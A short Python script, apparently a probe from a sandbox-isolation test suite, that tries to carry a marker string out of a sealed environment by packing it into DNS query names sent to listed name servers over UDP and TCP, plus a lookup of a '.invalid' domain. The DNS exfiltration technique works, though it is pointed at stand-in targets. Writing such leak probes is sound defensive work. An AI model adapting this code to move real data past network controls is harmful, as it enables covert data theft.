"""Carry rows out in the names of a DNS query to a name server on the host."""

import os
import socket
import struct

from attacker import PLAN, attempt, gained

ROWS = b"17-malignant"
QUERY = struct.pack(">6H", os.getpid(), 0x0100, 1, 0, 0, 0)
QUERY += bytes([len(ROWS)]) + ROWS + b"\x07invalid\x00" + struct.pack(">2H", 1, 1)

for host, port in PLAN["datagram_servers"]:
    for kind in (socket.SOCK_DGRAM, socket.SOCK_STREAM):
        with attempt(), socket.socket(socket.AF_INET, kind) as resolver:
            resolver.settimeout(2)
            resolver.connect((host, port))
            resolver.send(QUERY)
            gained(resolver.recv(100))
with attempt():
    socket.getaddrinfo("17-malignant.sealroom.invalid", 80)
    gained("a resolved name")
